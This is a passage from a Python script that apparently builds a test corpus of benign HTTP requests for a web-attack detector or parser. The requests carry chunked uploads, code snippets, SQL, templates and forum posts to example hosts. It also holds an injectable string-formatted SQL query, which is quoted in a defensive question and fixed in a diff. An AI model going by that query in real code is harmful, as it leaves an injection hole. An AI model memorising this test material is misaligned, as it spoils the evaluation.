         '<url><loc>https://www.example.com/produkte?kategorie=k%C3%BCche&amp;seite=2</loc></url></urlset>', api=True, ua=UA["go"])


def ben_http():
    # chunked request bodies (streaming uploads, NDJSON logs, trailers)
    for i in range(12):
        k = i % 4
        if k == 0:
            lines = [jd({"ts": iso_ts(), "level": pick(["info", "warn"]), "msg": pick(["request completed", "cache miss", "retrying upstream"]),
                         "status": pick([200, 204, 304]), "ms": R.randint(1, 900)}) + "\n" for _ in range(R.randint(3, 6))]
            raw_send("chunked-ndjson-logs", "benign", FW["go"], "POST", "/api/logs/bulk",
                     [("Content-Type", "application/x-ndjson"), ("Transfer-Encoding", "chunked"), ("Authorization", bearer())],
                     chunked(lines), ua="Fluent-Bit/3.0.3")
        elif k == 1:
            data = csv_text()
            pieces = [data[j:j + 64] for j in range(0, len(data), 64)]
            raw_send("chunked-csv-upload", "benign", FW["fastapi"], "PUT", "/api/imports/%s.csv" % ruuid(),
                     [("Content-Type", "text/csv"), ("Transfer-Encoding", "chunked"), ("Expect", "100-continue")], chunked(pieces), ua=UA["curl"])
        elif k == 2:
            body = jd({"items": [{"id": R.randint(1, 999), "qty": R.randint(1, 5)} for _ in range(4)], "note": pick(TEXTS)})
            pieces = [body[j:j + 40] for j in range(0, len(body), 40)]
            raw_send("chunked-json", "benign", FW["express"], "POST", "/api/cart/sync",
                     [("Content-Type", "application/json"), ("Transfer-Encoding", "chunked")], chunked(pieces), ua=UA["node"])
        else:
            img = png_bytes(R.randint(4, 8), R.randint(4, 8))
            raw_send("chunked-binary-trailer", "benign", FW["spring"], "PUT", "/api/objects/photos/%s.png" % hexs(12),
                     [("Content-Type", "image/png"), ("Transfer-Encoding", "chunked"), ("Trailer", "X-Content-SHA256")],
                     chunked([img[:len(img) // 2], img[len(img) // 2:]], trailers=["X-Content-SHA256: " + hexs(64)]), ua=UA["okhttp"])
    # gzip-compressed bodies
    for i in range(3):
        data = gzip.compress(jd({"events": [{"name": "app_open", "ts": iso_ts()} for _ in range(5)], "device": hexs(16)}).encode(), mtime=0)
        raw_send("gzip-json-body", "benign", FW["aspnet"], "POST", "/api/telemetry",
                 [("Content-Type", "application/json"), ("Content-Encoding", "gzip"), ("Content-Length", None)], data, ua=UA["dotnet"])
    # HTTP/1.0 health checks and monitoring
    raw_send("http10-healthcheck", "benign", None, "GET", "/healthz", [("Connection", "close")], version="HTTP/1.0",
             ua="check_http/v2.3.3 (nagios-plugins 2.3.3)")
    raw_send("http10-healthcheck", "benign", FW["django"], "GET", "/status/", [], version="HTTP/1.0", ua="Wget/1.21.4")
    emit_raw("http10-haproxy-check", "benign", b"OPTIONS / HTTP/1.0\r\n\r\n")
    raw_send("http10-healthcheck", "benign", None, "HEAD", "/", [("Connection", "close")], version="HTTP/1.0", ua="Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)")
    # absolute-form (forward proxies), CORS preflight, HEAD
    emit("absolute-form-proxy", "benign", "GET", "http://www.example.com/products?page=2",
         bh("www.example.com", fw="php") + [["Proxy-Connection", "keep-alive"]])
    emit("absolute-form-proxy", "benign", "GET", "http://api.example.com/v1/status",
         [["Host", "api.example.com"], ["User-Agent", UA["curl"]], ["Accept", "*/*"], ["Proxy-Authorization", "Basic " + base64.b64encode(b"squid:" + tok(12).encode()).decode()]])
    for i in range(2):
        emit("cors-preflight", "benign", "OPTIONS", "/api/v1/orders",
             [["Host", FW["spring"]], ["User-Agent", pick(BROWSER_UA)], ["Accept", "*/*"], ["Origin", "https://app.example.com"],
              ["Access-Control-Request-Method", pick(["PUT", "DELETE", "PATCH"])],
              ["Access-Control-Request-Headers", "authorization,content-type,x-request-id"], ["Sec-Fetch-Mode", "cors"]])
    emit("head-request", "benign", "HEAD", "/downloads/manual_de.pdf", bh(FW["php"], fw="php"))
    # headers with unusual but valid forms
    emit("header-case-lowercase-h2", "benign", "GET", "/api/me",
         [["host", FW["express"]], ["user-agent", UA["axios"]], ["accept", "application/json"], ["authorization", bearer()],
          ["x-request-id", ruuid()]], version="HTTP/2")
    emit("header-forwarded-chain", "benign", "GET", "/account",
         bh(FW["rails"], fw="rails") + [["X-Forwarded-For", "203.0.113.45, 198.51.100.7"], ["X-Forwarded-Proto", "https"],
                                        ["Forwarded", 'for=203.0.113.45;proto=https;by="[2001:db8::1]"']])


SNIPPETS = {
    "py-db": ('db.py', 'text/x-python',
              'import sqlite3\n\n\ndef find_user(conn, email):\n    # parameterised: never format SQL strings yourself\n'
              '    cur = conn.execute("SELECT id, name FROM users WHERE email = ?", (email,))\n    return cur.fetchone()\n'),
    "js-fetch": ('client.js', 'application/javascript',
                 "export async function loadOrders(token) {\n  const res = await fetch('/api/orders?status=open&limit=50', {\n"
                 "    headers: { Authorization: `Bearer ${token}` },\n  });\n  if (!res.ok) throw new Error(`HTTP ${res.status}`);\n"
                 "  const list = document.querySelector('#orders');\n  list.textContent = '';\n  for (const o of await res.json()) {\n"
                 "    const li = document.createElement('li');\n    li.textContent = `${o.id}: ${o.total}`;\n    list.appendChild(li);\n  }\n}\n"),
    "go-http": ('main.go', 'text/x-go',
                'package main\n\nimport (\n\t"encoding/json"\n\t"net/http"\n)\n\nfunc health(w http.ResponseWriter, r *http.Request) {\n'
                '\tw.Header().Set("Content-Type", "application/json")\n\tjson.NewEncoder(w).Encode(map[string]string{"status": "ok"})\n}\n\n'
                'func main() {\n\thttp.HandleFunc("/healthz", health)\n\thttp.ListenAndServe(":8080", nil)\n}\n'),
    "php-pdo": ('repo.php', 'application/x-php',
                "<?php\n$stmt = $pdo->prepare('SELECT * FROM products WHERE category_id = :cat AND price < :max');\n"
                "$stmt->execute(['cat' => (int) $_GET['cat'], 'max' => 100]);\nforeach ($stmt as $row) {\n"
                "    echo htmlspecialchars($row['name'], ENT_QUOTES, 'UTF-8'), \"<br>\\n\";\n}\n"),
    "java-svc": ('OrderService.java', 'text/x-java',
                 'package com.example.shop;\n\nimport org.springframework.jdbc.core.JdbcTemplate;\n\npublic class OrderService {\n'
                 '    private final JdbcTemplate jdbc;\n    public OrderService(JdbcTemplate jdbc) { this.jdbc = jdbc; }\n\n'
                 '    public int countOpen(long customerId) {\n        return jdbc.queryForObject(\n'
                 '            "SELECT COUNT(*) FROM orders WHERE customer_id = ? AND status = \'OPEN\'", Integer.class, customerId);\n    }\n}\n'),
    "rb-model": ('post.rb', 'text/x-ruby',
                 "class Post < ApplicationRecord\n  belongs_to :author\n  scope :published, -> { where(published: true).order(created_at: :desc) }\n"
                 "  validates :title, presence: true, length: { maximum: 120 }\nend\n"),
    "cs-ctrl": ('OrdersController.cs', 'text/plain',
                '[ApiController]\n[Route("api/[controller]")]\npublic class OrdersController : ControllerBase\n{\n'
                '    [HttpGet("{id:int}")]\n    public async Task<IActionResult> Get(int id) =>\n'
                '        await _db.Orders.FindAsync(id) is { } o ? Ok(o) : NotFound();\n}\n'),
    "bash-deploy": ('deploy.sh', 'application/x-sh',
                    '#!/usr/bin/env bash\nset -euo pipefail\nIMAGE="registry.example.com/shop/web:${GIT_SHA:-latest}"\n'
                    'docker build -t "$IMAGE" .\ndocker push "$IMAGE"\nkubectl set image deployment/web web="$IMAGE" -n prod\n'
                    'kubectl rollout status deployment/web -n prod --timeout=120s || { echo "rollback"; kubectl rollout undo deployment/web -n prod; exit 1; }\n'),
    "dockerfile": ('Dockerfile', 'text/plain',
                   'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt && \\\n'
                   '    apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n'
                   'COPY . .\nHEALTHCHECK CMD curl -f http://localhost:8000/healthz || exit 1\nCMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]\n'),
    "sql-migration": ('0042_orders.sql', 'application/sql',
                      '-- 0042: split address into its own table\nBEGIN;\nCREATE TABLE addresses (\n  id BIGSERIAL PRIMARY KEY,\n'
                      '  line1 TEXT NOT NULL,\n  city TEXT NOT NULL\n);\nINSERT INTO addresses (line1, city)\n  SELECT DISTINCT ship_line1, ship_city FROM orders;\n'
                      'ALTER TABLE orders DROP COLUMN ship_line1;\nDROP TABLE IF EXISTS tmp_import;\nCOMMIT;\n'),
    "gitlab-ci": ('.gitlab-ci.yml', 'text/yaml',
                  'stages: [test, deploy]\n\ntest:\n  image: node:20\n  script:\n    - npm ci\n    - npm test -- --coverage\n\n'
                  'deploy:\n  stage: deploy\n  script:\n    - \'curl -sSf -X POST -H "Authorization: Bearer $DEPLOY_TOKEN" https://deploy.example.com/hooks/web\'\n'
                  '  only: [main]\n'),
    "nginx": ('site.conf', 'text/plain',
              'server {\n    listen 443 ssl http2;\n    server_name www.example.com;\n    root /var/www/html;\n'
              '    location / { try_files $uri $uri/ /index.php?$query_string; }\n    location ~ \\.php$ {\n'
              '        include fastcgi_params;\n        fastcgi_pass unix:/run/php/php8.2-fpm.sock;\n'
              '        fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;\n    }\n    location ~ /\\.(?!well-known) { deny all; }\n}\n'),
    "htaccess": ('.htaccess', 'text/plain',
                 'RewriteEngine On\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteCond %{REQUEST_FILENAME} !-d\nRewriteRule ^(.*)$ index.php?q=$1 [L,QSA]\n'
                 'Header always set X-Content-Type-Options "nosniff"\n'),
    "crontab": ('crontab.txt', 'text/plain',
                '# m h dom mon dow command\n*/5 * * * * /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1\n'
                '0 3 * * 0 find /tmp/exports -type f -mtime +7 -delete\n'),
    "k8s": ('job.yaml', 'application/yaml',
            'apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: reindex\nspec:\n  template:\n    spec:\n      containers:\n'
            '        - name: reindex\n          image: registry.example.com/tools:1.4\n'
            '          command: ["/bin/sh", "-c", "echo start $(date -u) && python manage.py rebuild_index --noinput"]\n'
            '      restartPolicy: Never\n'),
    "log4j2": ('log4j2.xml', 'application/xml',
               '<?xml version="1.0" encoding="UTF-8"?>\n<Configuration status="WARN">\n  <Appenders>\n'
               '    <RollingFile name="app" fileName="${sys:catalina.base}/logs/app.log" filePattern="${sys:catalina.base}/logs/app-%d{yyyy-MM-dd}.log.gz">\n'
               '      <PatternLayout pattern="%d{ISO8601} [%t] %-5level %logger{36} - %msg%n"/>\n      <TimeBasedTriggeringPolicy/>\n'
               '    </RollingFile>\n  </Appenders>\n  <Loggers><Root level="info"><AppenderRef ref="app"/></Root></Loggers>\n</Configuration>\n'),
    "powershell": ('cleanup.ps1', 'text/plain',
                   'Get-ChildItem -Path "C:\\Logs" -Filter *.log |\n  Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } |\n'
                   '  Remove-Item -WhatIf\nWrite-Host "Done: $((Get-Date).ToString(\'s\'))"\n'),
    "makefile": ('Makefile', 'text/x-makefile',
                 '.PHONY: test lint\n\ntest:\n\tgo test ./... -race -count=1\n\nlint:\n\tgolangci-lint run --timeout 5m\n\n'
                 'clean:\n\trm -rf ./bin ./dist\n'),
    "terraform": ('main.tf', 'text/plain',
                  'resource "aws_s3_bucket" "assets" {\n  bucket = "example-assets-${var.env}"\n  tags = {\n    Team = "web"\n  }\n}\n'),
}

SQL_QUERIES = [
    "SELECT date_trunc('week', created_at) AS wk, count(*) AS orders, sum(total) AS revenue\nFROM orders\nWHERE status IN ('paid', 'shipped')\nGROUP BY 1\nORDER BY 1 DESC\nLIMIT 12;",
    "WITH last_login AS (\n  SELECT user_id, max(ts) AS ts FROM logins GROUP BY user_id\n)\nSELECT u.email, l.ts\nFROM users u LEFT JOIN last_login l ON l.user_id = u.id\nWHERE l.ts < now() - interval '90 days' OR l.ts IS NULL;",
    "SELECT 'web' AS channel, count(*) FROM orders WHERE source = 'web'\nUNION ALL\nSELECT 'app', count(*) FROM orders WHERE source = 'app';",
    "SELECT product_id, name,\n       rank() OVER (PARTITION BY category_id ORDER BY sold DESC) AS rnk\nFROM product_sales\nWHERE name LIKE '%organic%';",
    "SELECT CASE WHEN total >= 100 THEN 'large' WHEN total >= 20 THEN 'medium' ELSE 'small' END AS bucket, count(*)\nFROM orders GROUP BY 1; -- basket size distribution",
    "UPDATE subscriptions SET status = 'cancelled', cancelled_at = now()\nWHERE id = 4711 AND status = 'active';",
    "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public' ORDER BY table_name;",
    "DELETE FROM sessions WHERE expires_at < now() - interval '1 day';",
]

QUERY_EXPR = [
    ("promql", "sum by (service) (rate(http_requests_total{status=~\"5..\", env=\"prod\"}[5m])) / sum by (service) (rate(http_requests_total[5m])) > 0.01"),
    ("logql", "{app=\"checkout\"} |= \"timeout\" | json | latency_ms > 500 | line_format \"{{.method}} {{.path}} {{.latency_ms}}\""),
    ("kusto", "requests\n| where timestamp > ago(1h) and resultCode == \"500\"\n| summarize count() by bin(timestamp, 5m), operation_Name\n| order by count_ desc"),
    ("jsonpath", "$.store.book[?(@.price < 10 && @.category == 'fiction')].title"),
    ("xpath", "//order[status='open' and total > 100]/customer/@id"),
    ("regex", "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\\.[a-z0-9!#$%&'*+/=?^_`{|}~-]+)*)@(?:[a-z0-9-]+\\.)+[a-z]{2,}$"),
    ("lucene", "title:(\"release notes\" OR changelog) AND NOT status:draft AND created:[2024-01-01 TO *]"),
    ("cypher", "MATCH (u:User)-[:FOLLOWS]->(f:User) WHERE u.id = $userId RETURN f.name ORDER BY f.name LIMIT 25"),
]

TEMPLATES = [
    ("jinja", "{% extends 'base.html' %}\n{% block content %}\n<h1>{{ page.title }}</h1>\n<ul>\n{% for item in cart.items %}\n  <li>{{ item.title|e }} &times; {{ item.qty }}</li>\n{% endfor %}\n</ul>\n{% endblock %}"),
    ("twig", "{% if user is defined %}\n  <p>{{ 'hello'|trans }}, {{ user.firstName|title }}!</p>\n{% endif %}\n{{ include('partials/footer.html.twig') }}"),
    ("handlebars", "<ul class=\"products\">\n{{#each products}}\n  <li data-id=\"{{id}}\">{{name}} \u2013 {{formatPrice price}}</li>\n{{else}}\n  <li>No products</li>\n{{/each}}\n</ul>"),
    ("erb", "<% @posts.each do |post| %>\n  <article>\n    <h2><%= link_to post.title, post %></h2>\n    <p><%= truncate(post.body, length: 140) %></p>\n  </article>\n<% end %>"),
    ("liquid", "{% for product in collection.products limit: 4 %}\n  <a href=\"{{ product.url }}\">{{ product.title | escape }}</a> {{ product.price | money }}\n{% endfor %}"),
    ("thymeleaf", "<tr th:each=\"o : ${orders}\">\n  <td th:text=\"${o.id}\">1</td>\n  <td th:text=\"${#temporals.format(o.created, 'dd.MM.yyyy')}\">01.01.2024</td>\n</tr>"),
    ("mail", "<table width=\"100%\" style=\"font-family:Arial,sans-serif\"><tr><td>Hi *|FNAME|*,</td></tr>\n<tr><td>Your order {{order_number}} has shipped. <a href=\"{{tracking_url}}\" style=\"color:#0a84ff\">Track it</a>.</td></tr></table>"),
]

HTML_RICH = [
    "<p>Hello team,</p><p>The <strong>Q3 roadmap</strong> is now in the wiki. Highlights:</p><ul><li>New checkout</li><li>Dark mode</li></ul>"
    "<p>See <a href=\"https://wiki.example.com/roadmap/q3\" target=\"_blank\" rel=\"noopener noreferrer\">the roadmap</a>.</p>",
    "<h2>Installation</h2><ol><li>Download the installer</li><li>Run it as administrator</li></ol>"
    "<p><img src=\"https://cdn.example.net/docs/setup-step2.png\" alt=\"Setup step 2\" width=\"640\"></p>",
    "<blockquote>\u201eDie beste Pizza der Stadt!\u201c</blockquote><p>\u2014 <em>Stadtmagazin, Mai 2024</em></p>",
    "<table><thead><tr><th>Plan</th><th>Preis</th></tr></thead><tbody><tr><td>Basic</td><td>9 \u20ac</td></tr><tr><td>Pro</td><td>29 \u20ac</td></tr></tbody></table>",
]

FORUM_POSTS = [
    "How do I avoid SQL injection with psycopg2? I currently do:\n\n```python\ncur.execute(\"SELECT * FROM users WHERE name = '%s'\" % name)\n```\n\n"
    "and a colleague said I should pass parameters separately. Is `cur.execute(\"... WHERE name = %s\", (name,))` enough?",
    "Our CSP blocks this embed snippet from the vendor docs:\n\n```html\n<script src=\"https://widgets.example.net/v2/widget.js\" async></script>\n"
    "<div class=\"ex-widget\" data-key=\"pk_live_123\"></div>\n```\n\nDo I need `script-src https://widgets.example.net` or also `connect-src`?",
    "Why does `find . -name '*.log' -mtime +7 -exec rm {} \\;` delete nothing on macOS? On Linux it works. Using zsh 5.9.",
    "In Thymeleaf I get `EL1008E: Property or field 'name' cannot be found` for `th:text=\"${user.name}\"`. The controller adds `model.addAttribute(\"user\", user)`. Any idea?",
    "Tip: to list open ports on Windows use `netstat -ano | findstr :8080` and then `taskkill /PID 1234 /F`.",
    "For the Mongo migration I used this aggregation: `db.orders.aggregate([{ $match: { status: 'paid' } }, { $group: { _id: '$customerId', total: { $sum: '$amount' } } }])` \u2014 it takes 40s on 3M docs, index on status exists. Suggestions?",
    "Jinja question: `{{ user.name | default('Guest') }}` still prints `None` when the key exists but is null. How do I treat null as missing?",
    "git tip of the day: `git log --oneline --graph --decorate --all | head -n 20`",
]


def ben_dev():
    D = "dev-content"
    keys = list(SNIPPETS)
    # gists / snippet services (JSON)
    for i, k in enumerate(keys[:10]):
        fn, ct, code = SNIPPETS[k]
        send(f"dev-gist-{k}", D, pick(["express", "rails", "go"]), "POST", "/api/gists", "application/json",
             jd({"description": pick(["helper", "example for the team", "snippet from review", "WIP"]), "public": i % 2 == 0,
                 "files": {fn: {"content": code}}}), ua=pick([None, UA["curl"], UA["requests"]]), auth=bearer())
    # code files uploaded through multipart (browsers, CLI)
    for k in keys[10:]:
        fn, ct, code = SNIPPETS[k]
        client = pick(["chrome", "firefox", "curl"])
        fw = pick(["django", "rails", "spring", "laravel"])
        b_mp(f"dev-upload-{k}", fw, "/projects/%d/files" % R.randint(1, 99), client,
             std_parts(fw) + [part("path", "config/" + fn), part("file", code, filename=fn, ctype=ct)], cat=D)
    # code in a textarea of a review / forum (urlencoded and multipart)
    for i, post in enumerate(FORUM_POSTS):
        fw = ["django", "rails", "php", "laravel", "symfony", "flask", "express", "spring"][i % 8]
        if i % 2:
            b_mp("dev-forum-post-multipart", fw, "/forum/threads/%d/reply" % R.randint(1, 9999), pick(["chrome", "safari"]),
                 std_parts(fw) + [part("body", post), part("notify", "on")], cat=D)
        else:
            fpost("dev-forum-post-form", D, fw, "/questions/ask" + (".php" if fw == "php" else ""),
                  form(with_csrf(fw, [("title", post.split("\n")[0][:80]), ("body", post), ("tags", "sql,python")])))
    # saved SQL queries in BI tools / admin consoles
    for i, sql in enumerate(SQL_QUERIES):
        if i % 3 == 2:
            fpost("dev-sql-console-form", D, "django", "/admin/sql-explorer/query/new/",
                  form(with_csrf("django", [("title", "Weekly KPI %d" % i), ("sql", sql), ("description", "for the Monday meeting")])))
        else:
            send("dev-bi-saved-query", D, pick(["fastapi", "spring", "express"]), "POST", "/api/queries",
                 "application/json", jd({"name": "kpi_%d" % i, "datasource_id": R.randint(1, 9), "sql": sql,
                                        "schedule": {"cron": "0 7 * * 1", "timezone": "Europe/Berlin"}}), auth=bearer())
    # query expressions in dashboards / tools
    for lang, expr in QUERY_EXPR:
        send(f"dev-query-expr-{lang}", D, pick(["go", "express", "aspnet"]), "POST", "/api/dashboards/panels",
             "application/json", jd({"title": lang + " panel", "datasource": lang, "expr": expr, "refresh": "30s"}),
             ua=pick([None, UA["axios"]]))
    # Mongo / LDAP expressions in admin configuration (operators are data here)
    send("dev-mongo-filter-admin", D, "express", "POST", "/admin/api/saved-views", "application/json",
         jd({"name": "Big paid orders", "collection": "orders",
             "filter": {"status": {"$in": ["paid", "shipped"]}, "total": {"$gte": 100}}, "sort": {"createdAt": -1}}))
    send("dev-mongo-aggregation-notebook", D, "fastapi", "PUT", "/api/notebooks/%s/cells/3" % ruuid(), "application/json",
         jd({"cell_type": "code", "source": "db.orders.aggregate([\n  {$match: {createdAt: {$gte: ISODate('2024-01-01')}}},\n"
                                            "  {$group: {_id: '$country', n: {$sum: 1}}}\n])"}))
    send("dev-ldap-filter-settings", D, "spring", "PUT", "/admin/api/settings/ldap", "application/json",
         jd({"url": "ldaps://ldap.example.com:636", "baseDn": "dc=example,dc=com",
             "userFilter": "(&(objectClass=person)(sAMAccountName={0}))",
             "groupFilter": "(&(objectClass=group)(member={1}))", "bindDn": "cn=svc-portal,ou=Service,dc=example,dc=com"}),
         ua=pick(BROWSER_UA))
    fpost("dev-ldap-filter-form", D, "php", "/admin/ldap.php",
          form([("search_filter", "(|(mail=*@example.com)(department=Sales))"), ("attrs", "cn,mail,telephoneNumber"), ("save", "1")]))
    # templates edited in a CMS
    for i, (eng, tpl) in enumerate(TEMPLATES):
        fw = {"jinja": "flask", "twig": "symfony", "handlebars": "express", "erb": "rails", "liquid": "rails",
              "thymeleaf": "spring", "mail": "laravel"}[eng]
        if i % 2:
            send(f"dev-template-{eng}", D, fw, "PUT", "/admin/api/templates/%d" % R.randint(1, 200), "application/json",
                 jd({"name": eng + "-partial", "source": tpl, "updatedBy": pick(NAMES)}))
        else:
            fpost(f"dev-template-{eng}", D, fw, "/admin/templates/%d/edit" % R.randint(1, 200),
                  form(with_csrf(fw, [("_method", "put") if fw == "rails" else ("action", "save"), ("template[body]", tpl)])))
    # rich-text HTML from WYSIWYG editors
    for i, html in enumerate(HTML_RICH):
        if i % 2:
            send("dev-richtext-html-json", D, pick(["express", "laravel"]), "POST", "/api/pages", "application/json",
                 jd({"title": "Update %d" % i, "html": html, "status": "draft"}))
        else:
            b_mp("dev-richtext-html-multipart", "django", "/wiki/edit/", "chrome",
                 std_parts("django") + [part("content", html), part("summary", "typo fixes")], cat=D)
    # code review diffs and merge-patch of notebook cells
    diff = ('--- a/app/db.py\n+++ b/app/db.py\n@@ -10,7 +10,7 @@ def get_user(uid):\n'
            '-    cur.execute("SELECT * FROM users WHERE id = %s" % uid)\n+    cur.execute("SELECT * FROM users WHERE id = %s", (uid,))\n'
            '     return cur.fetchone()\n')
    send("dev-review-diff", D, "go", "POST", "/api/reviews/%d/comments" % R.randint(1, 999), "application/json",
         jd({"path": "app/db.py", "line": 13, "body": "Please keep this parameterised.", "diff_hunk": diff}), auth=bearer(), ua=UA["go"])
    send("dev-review-suggestion", D, "rails", "POST", "/api/merge_requests/%d/notes" % R.randint(1, 999), "application/json",
         jd({"body": "```suggestion\nel.textContent = user.name; // instead of el.innerHTML = user.name\n```"}))
    send("dev-notebook-merge-patch", D, "fastapi", "PATCH", "/api/notebooks/%s" % ruuid(), "application/merge-patch+json",
         jd({"cells": [{"cell_type": "code", "source": "!pip install pandas==2.2.2\nimport os, subprocess\nprint(os.environ.get('HOME'))\n"
                                                          "subprocess.run(['ls', '-la', '/data'], check=True)"}]}))
    # chat messages between developers
    for msg in ["try `rm -rf node_modules package-lock.json && npm install` then restart the dev server",
                "the prod DB is read-only for you; use `SELECT * FROM pg_stat_activity WHERE state = 'active';` to see what's blocking",
                "curl it with `curl -H 'Content-Type: application/json' -d '{\"q\":\"test\"}' https://api.example.com/search`",
                "PSA: `<img src=\"...\" loading=\"lazy\">` cut our LCP by 300ms on the product page"]:
        send("dev-chat-message", D, "express", "POST", "/api/channels/C%s/messages" % tok(8).upper(), "application/json",
             jd({"text": msg, "client_msg_id": ruuid()}), ua=pick([None, UA["okhttp"]]))
    # a snippet streamed with chunked encoding (CLI upload)
    fn, ct, code = SNIPPETS["bash-deploy"]
    raw_send("dev-chunked-snippet-upload", D, FW["go"], "PUT", "/api/snippets/deploy.sh",
             [("Content-Type", "text/x-shellscript"), ("Transfer-Encoding", "chunked"), ("Authorization", bearer())],
             chunked([code[:120], code[120:]]), ua=UA["curl"])
    # XML / XSLT sample embedded in JSON docs
    send("dev-docs-xml-sample", D, "django", "POST", "/api/docs/pages/", "application/json",
         jd({"slug": "soap-client", "markdown": "Example request:\n\n```xml\n<?xml version=\"1.0\"?>\n<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">\n"
             "  <soap:Body><GetOrderStatus><orderId>42</orderId></GetOrderStatus></soap:Body>\n</soap:Envelope>\n```"}))


def gen_benign():
    ben_multipart()
    ben_json()
    ben_query()
    ben_forms()
    ben_xml()
    ben_http()
    ben_dev()




# ---------------------------------------------------------------------------
# main
# ---------------------------------------------------------------------------

def main(argv):
    global MODE
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-parsers.py attacks|benign\n")
        return 2
    MODE = argv[1]
    R.seed(SEED if MODE == "attacks" else SEED + 1)
    if MODE == "attacks":
        gen_attacks()
    else:
        gen_benign()
    ids = set()
    for rec in OUT:
        assert rec["id"] not in ids, rec["id"]
        ids.add(rec["id"])
        sys.stdout.write(json.dumps(rec, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
